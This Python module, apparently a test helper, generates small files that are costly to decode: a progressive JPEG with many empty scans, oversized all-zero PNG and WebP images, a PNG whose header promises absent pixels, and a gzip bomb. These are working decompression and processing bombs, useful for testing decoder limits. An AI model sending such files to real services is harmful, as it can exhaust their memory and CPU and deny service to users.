"""Files that are small and cost much, made with the standard library alone."""
import struct
import zlib


def marker(code, body):
    return struct.pack(">BBH", 0xFF, code, len(body) + 2) + body


def stuffed(bits):
    """A scan's data: padded with ones, and a zero after each 0xFF."""
    bits += "1" * (-len(bits) % 8)
    data = int(bits, 2).to_bytes(len(bits) // 8, "big")
    return data.replace(b"\xff", b"\xff\x00")


def progressive_jpeg(width, height, scan_count, components=1):
    """Gray or YCbCr 4:4:4, all zero: a first scan of DC coefficients, then scans that say for all blocks that nothing follows."""
    tables = marker(0xDB, b"\0" + b"\1" * 64)
    frame = struct.pack(">BHHB", 8, height, width, components)
    frame += b"".join(struct.pack("BBB", index + 1, 0x11, 0) for index in range(components))
    # One symbol each, the code 0: difference 0; a run of 2¹⁴ to 2¹⁵ - 1 blocks without coefficients.
    huffman = marker(0xC4, b"\x00" + b"\1" + bytes(15) + b"\x00") + marker(0xC4, b"\x10" + b"\1" + bytes(15) + b"\xe0")
    blocks = -(-width // 8) * -(-height // 8)
    first = marker(0xDA, bytes([components]) + b"".join(bytes([index + 1, 0]) for index in range(components)) + b"\0\0\0")
    data = b"\xff\xd8" + tables + marker(0xC2, frame) + huffman + first + stuffed("0" * (blocks * components))
    run_count = -(-blocks // ((1 << 15) - 1))
    lengths = [blocks // run_count + (index < blocks % run_count) for index in range(run_count)]
    runs = "".join("0" + format(length - (1 << 14), "014b") for length in lengths)
    again = marker(0xDA, bytes([1, 1, 0, 1, 63, 0])) + stuffed(runs)
    return data + again * (scan_count - 1) + b"\xff\xd9"


def png(width, height, interlaced=False):
    """RGBA, all zero: a thousandth of its pixels' bytes, and less when the deflated bytes repeat."""
    header = struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, int(interlaced))
    packer = zlib.compressobj(9)
    row, data = bytes(1 + 4 * width), []
    if interlaced:
        for x, y, dx, dy in ((0, 0, 8, 8), (4, 0, 8, 8), (0, 4, 4, 8), (2, 0, 4, 4), (0, 2, 2, 4), (1, 0, 2, 2), (0, 1, 1, 2)):
            columns, rows = -(-(width - x) // dx), -(-(height - y) // dy)
            data += [packer.compress(row[:1 + 4 * columns]) for _ in range(rows)]
    else:
        data += [packer.compress(row) for _ in range(height)]
    data.append(packer.flush())

    def chunk(name, body):
        return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))

    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", b"".join(data)) + chunk(b"IEND", b"")


def png_header_only(width, height):
    """Promises pixels and has none."""
    return png(1, 1).replace(struct.pack(">II", 1, 1), struct.pack(">II", width, height), 1)


def webp(width, height):
    """Lossless, of one colour: every prefix code has one symbol, so that a pixel takes no bit at all."""
    bits, at = 0, 0
    for value, count in ((0x2F, 8), (width - 1, 14), (height - 1, 14), (0, 1), (0, 3), (0, 1), (0, 1), (0, 1)):
        bits |= value << at
        at += count
    for symbol in (0, 0, 0, 255, 0):
        is_long = int(symbol > 1)
        for value, count in ((1, 1), (0, 1), (is_long, 1), (symbol, 8 if is_long else 1)):
            bits |= value << at
            at += count
    data = bits.to_bytes(at // 8 + 1, "little")
    data += bytes(len(data) % 2)
    return b"RIFF" + struct.pack("<I", 12 + len(data)) + b"WEBPVP8L" + struct.pack("<I", len(data)) + data


def gzip_bomb(byte_count):
    packer, data = zlib.compressobj(9, wbits=31), []
    for _ in range(byte_count >> 20):
        data.append(packer.compress(bytes(1 << 20)))
    return b"".join([*data, packer.flush()])
